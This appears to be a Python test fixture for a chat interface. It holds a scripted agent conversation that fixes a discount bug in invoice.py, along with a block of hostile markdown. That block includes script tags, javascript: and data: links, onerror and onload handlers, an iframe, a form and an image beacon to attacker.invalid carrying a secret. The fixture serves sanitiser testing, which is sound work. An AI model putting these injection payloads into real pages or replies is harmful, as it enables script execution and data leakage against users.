"""Conversations that have everything which the page shows, as scripts for the model."""

from typing import Any

from tests.harness import text_answer, tool_call_answer

PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAHUlEQVR42mNQCdwBRP"
    "/BAJnNgFMCUwjCxi1BBzsA/kWFQTm6OfYAAAAASUVORK5CYII="
)
"""A small picture."""

TASK = (
    "The totals of `invoice.py` are wrong for customers with a discount. Find out why, mend it, "
    "and show me that the tests pass."
)
TITLE = "Wrong totals with a discount"

BEFORE = '''"""Invoices."""

def total(items, discount=0):
    amount = 0
    for price, count in items:
        amount += price * count
    return amount - discount
'''

PROBE = (
    "printf '\\033[31mFAILED\\033[0m test_invoice.py::test_discount\\n"
    "\\033[32mPASSED\\033[0m test_invoice.py::test_plain\\n"
    "\\033[1m1 failed, 1 passed\\033[0m\\n'; exit 1"
)
PASSED = "printf '\\033[32m2 passed\\033[0m in 0.02s\\n'"

ANSWER = """The discount is a **percentage**, but `total` took it as an amount:

| customer | before | now |
|---|---:|---:|
| plain | 120.00 | 120.00 |
| 10 % | 110.00 | 108.00 |

```python
def total(items, discount=0):
    amount = sum(price * count for price, count in items)
    return amount * (1 - discount / 100)
```

Both tests pass.

- [x] mended
- [ ] released"""

SPENT = {"prompt_tokens": 4120, "completion_tokens": 220, "cost": 0.0123, "latency": 1.8}


def bug_fix() -> list[dict[str, Any]]:
    """The answers of an agent that mends a bug with the terminal and the editor."""
    edit = {
        "command": "str_replace",
        "path": "invoice.py",
        "old_str": "    return amount - discount\n",
        "new_str": "    return amount * (1 - discount / 100)\n",
    }
    create = {"command": "create", "path": "invoice.py", "file_text": BEFORE}
    return [
        tool_call_answer(
            ("file_editor", create),
            content="I look at the code first.",
            reasoning_content="The discount may be a percentage. The test would tell.",
            usage=SPENT,
        ),
        tool_call_answer(("terminal", {"command": PROBE}), usage=SPENT),
        tool_call_answer(("file_editor", edit), usage=SPENT),
        tool_call_answer(("terminal", {"command": PASSED}), usage=SPENT),
        text_answer(ANSWER) | {"usage": SPENT},
    ]


HOSTILE = """# Hello <script>window.hacked = 1</script>

[click me](javascript:window.hacked=1) [or me](JaVaScRiPt:window.hacked=1)
[data](data:text/html,<script>window.hacked=1</script>) <a href="javascript:window.hacked=1">raw</a>
![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![spy](https://attacker.invalid/spy.png?q=secret) <img src=x onerror="window.hacked=1">
<svg onload="window.hacked=1"><script>window.hacked=1</script></svg>
<style>body { display: none }</style> <iframe src="https://attacker.invalid"></iframe>
<form action="https://attacker.invalid"><input name=q></form>
<b style="position:fixed;inset:0" onclick="window.hacked=1" id="main">bold</b>
[vb](vbscript:msgbox(1)) [ref][1] <https://example.org/autolink>

[1]: javascript:window.hacked=1 "title"

| a | b |
|---|---|
| <img src=x onerror=window.hacked=1> | [x](javascript:window.hacked=1) |

```html
<script>window.hacked = 1</script>
```
```"><img src=x onerror=window.hacked=1>
code
```
"""
"""Markdown that would run code, load from elsewhere or change the page, were it let."""

HOSTILE_OUTPUT = (
    "printf '<img src=x onerror=window.hacked=1>\\033]0;title\\007\\033[31m<script>window.hacked=1"
    "</script>\\033[0m\\n'"
)
